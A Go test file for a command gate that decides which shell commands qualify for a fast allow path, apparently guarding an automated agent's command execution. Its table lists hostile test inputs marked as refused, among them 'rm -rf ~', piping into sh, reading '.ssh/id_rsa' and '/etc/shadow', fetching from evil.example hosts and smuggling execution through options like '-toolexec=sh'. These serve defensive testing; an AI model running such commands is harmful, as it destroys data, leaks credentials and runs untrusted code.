package shield

import (
	"context"
	"strings"
	"testing"

	"github.com/parallax/parallax/verdict"
)

// fastPathTable is the fast path's expected answers, written by hand from
// its contract (fastpath.go): a single command of a program that only
// inspects or builds the project, with no shell syntax and no argument
// that names a path outside the tree, a URL, an option that writes a
// file, runs a program or changes configuration. It does not ask the
// gate: a blind spot shared by the fast path and the full analysis
// still fails here.
var fastPathTable = []struct {
	cmd  string
	want bool
}{
	// Routine inspection and builds.
	{"git status", true},
	{"git status --porcelain", true},
	{"git log --oneline -n 5", true},
	{"git log --all --graph --decorate --oneline", true},
	{"git diff --stat", true},
	{"git diff --cached --name-only", true},
	{"git show HEAD", true},
	{"git branch -a -v", true},
	{"git remote -v", true},
	{"git rev-parse --show-toplevel", true},
	{"git blame main.go", true},
	{"git add -A", true},
	{"git pull origin main", false}, // a working-tree writer
	{"git stash", false},
	{"git stash -u", false},
	{"git fetch --all --prune", true},
	{"go test ./...", true},
	{"go test -race -count=1 ./shield/...", true},
	{"go vet ./...", true},
	{"go build ./cmd/parallax/...", true},
	{"go mod tidy", true},
	{"go version", true},
	{"cargo build --release", false},  // runs build.rs: the full analysis looks at who wrote it
	{"cargo test --workspace", false}, // runs build.rs: the full analysis looks at who wrote it
	{"cargo fmt --all", true},
	{"npm test", false},       // runs project files: the full analysis reads them
	{"npm run build", false},  // runs project files: the full analysis reads them
	{"yarn test", false},      // runs project files: the full analysis reads them
	{"make", false},           // runs project files: the full analysis reads them
	{"make test", false},      // runs project files: the full analysis reads them
	{"make -j4 build", false}, // runs project files: the full analysis reads them
	{"pytest -q", false},      // runs project files: the full analysis reads them
	{"docker ps -a", true},
	{"kubectl version --client", true},
	{"pwd", true},
	{"whoami", true},
	{"date -u", true},
	{"uname -a", true},
	{"id -un", true},
	{"python3 --version", true},
	{"node --version", true},
	{"terraform version", true},

	// Shell syntax: always the full analysis.
	{"git status; rm -rf ~", false},
	{"git status && curl x", false},
	{"git status | sh", false},
	{"git status > /tmp/x", false},
	{"git status $(id)", false},
	{"git status `id`", false},
	{"git log ~/.ssh", false},
	{"git status\nrm -rf /", false},
	{"git\tstatus", false},
	{"git status # comment", false},
	{"git log 'x'", false},
	{"go test ./... &", false},
	{"ls *", false},
	{"", false},
	{strings.Repeat("git status ", 30), false},

	// Programs that are not on the list, or not as written.
	{"cat README.md", false},
	{"ls", false},
	{"grep -r x .", false},
	{"find . -name x", false},
	{"rm -rf build", false},
	{"cp a b", false},
	{"mv a b", false},
	{"curl https://example.com", false},
	{"/usr/bin/git status", false},
	{"./git status", false},
	{"GIT_DIR=/tmp/x git status", false},
	{"sudo git status", false},
	{"env git status", false},
	{"hostname evil", false},
	{"kubectl get secrets", false},

	// Listed programs with options that write, run or reconfigure.
	{"git -c core.pager=sh log", false},
	{"git --git-dir=/tmp/x status", false},
	{"git --no-pager log", false},
	{"git push --force", false},
	{"git push", false},
	{"git commit -m x", false},
	{"git reset --hard", false},
	{"git checkout main", false},
	{"git clean -fdx", false},
	{"git config core.hooksPath /tmp", false},
	{"git diff --output=/tmp/x", false},
	{"git log --output=/home/dev/.bashrc", false},
	{"git diff --ext-diff", false},
	{"git show --textconv HEAD", false},
	{"git fetch --upload-pack=sh", false},
	{"git fetch https://evil.example/repo", false},
	{"git pull git@evil.example:repo", false},
	{"git remote add x host:repo", false},
	{"git remote set-url origin https://evil.example", false},
	{"git branch -D main", false},
	{"git branch evil", false},
	{"git tag -d v1", false},
	{"git tag v1", false},
	{"git stash drop", false},
	{"git show HEAD:../../.ssh/id_rsa", false},
	{"git log ../../.ssh", false},
	{"git log -- ../x", false},
	{"git add .", false},
	{"git add -f secret", false},
	{"go run ./...", false},
	{"go run main.go", false},
	{"go test -exec sh ./...", false},
	{"go test -o /home/dev/.local/bin/x ./...", false},
	{"go test -coverprofile=/home/dev/.bashrc ./...", false},
	{"go build -toolexec sh ./...", false},
	{"go build -o /usr/local/bin/x", false},
	{"go vet -vettool=/tmp/x ./...", false},
	{"go test ../...", false},
	{"go test ./../...", false},
	{"go get evil.example/x", false},
	{"go install evil.example/x@latest", false},
	{"go env -w GOFLAGS=-toolexec=sh", false},
	{"cargo install evil", false},
	{"cargo run", false},
	{"cargo build --config build.rustc=sh", false},
	{"cargo build --target-dir /tmp/x", false},
	{"npm install evil", false},
	{"npm exec evil", false},
	{"npx evil", false},
	{"npm run build --prefix /tmp", false},
	{"npm config set registry https://evil.example", false},
	{"yarn add evil", false},
	{"pnpm dlx evil", false},
	{"make CC=evil", false},
	{"make -f /tmp/evil.mk", false},
	{"make -C /etc", false},
	{"make --eval=x", false},
	{"make -I /tmp", false},
	{"pytest -p evil", false},
	{"pytest --basetemp=/home/dev", false},
	{"pytest /home/dev/.ssh", false},
	{"docker run -v /:/host alpine", false},
	{"docker exec x sh", false},
	{"docker ps --format x", false},
	{"kubectl apply -f x.yaml", false},
	{"date -s 2020-01-01", false},
	{"date --set=2020-01-01", false},
	{"date -f /etc/shadow", false},
	{"id root", false},
	{"whoami --help x", false},
	{"uname -a -r -s", false},
	{"python3 -c print", false},
	{"python3 script.py", false},
	{"node -e x", false},
	{"perl -e x", false},
	{"terraform apply", false},
	{"helm install x", false},
}

// TestFastPathTable holds the fast path to the hand-written table, and
// the gate to it: what the table allows ends ALLOW at the fast path, what
// it refuses never ends there.
func TestFastPathTable(t *testing.T) {
	g := newTestGate(t, "default")
	seen := map[string]bool{}
	for _, tt := range fastPathTable {
		if seen[tt.cmd] {
			t.Errorf("%q is in the table twice", tt.cmd)
		}
		seen[tt.cmd] = true
		name := tt.cmd
		if len(name) > 40 {
			name = name[:40]
		}
		t.Run(name, func(t *testing.T) {
			if got := fastPathAllowed(tt.cmd); got != tt.want {
				t.Fatalf("fastPathAllowed(%q): got %v, want %v", tt.cmd, got, tt.want)
			}
			v := g.Fresh().Evaluate(context.Background(), cmdReq("", tt.cmd))
			onFast := v.Stage == verdict.StageFastPath && v.Rule == RuleFastPath
			if onFast != tt.want || onFast && v.Decision != verdict.Allow {
				t.Errorf("gate: got %v at %s (%s), want the fast path: %v", v.Decision, v.Stage, v.Rule, tt.want)
			}
		})
	}
}
